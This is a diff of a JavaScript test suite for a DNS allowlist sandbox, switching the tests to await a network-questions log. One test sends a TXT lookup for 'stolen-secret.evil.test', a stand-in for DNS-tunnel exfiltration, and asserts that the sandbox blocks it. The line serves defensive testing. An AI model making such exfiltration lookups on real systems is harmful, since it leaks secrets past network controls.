@@ -111,7 +111,7 @@ describe('an allowlist session', () => {
       (await a.dns('stolen-secret.evil.test', { type: 'TXT' })).texts[0] ?? '',
       /allowlist/,
     );
-    assert.ok(!bed.net.questions.some(({ name }) => name.includes('stolen-secret')));
+    assert.ok(!(await bed.net.questions()).some(({ name }) => name.includes('stolen-secret')));
   });
 
   test("an allowlist session's DNS goes to coid over UDP and TCP, whichever server it names", async () => {
@@ -123,14 +123,14 @@ describe('an allowlist session', () => {
         { off: 'NOERROR', on: 'NXDOMAIN' },
         transport,
       );
-    const before = bed.net.questions.length;
+    const before = (await bed.net.questions()).length;
     await bed.guard.put(a.port(list(['www.example.org'])));
     assert.equal(
       (await a.dns('www.example.org', { server: '1.1.1.1', transport: 'tcp' })).rcode,
       'NOERROR',
     );
     assert.deepEqual(
-      bed.net.questions.slice(before).map(({ name }) => name),
+      (await bed.net.questions()).slice(before).map(({ name }) => name),
       ['www.example.org'],
     );
   });
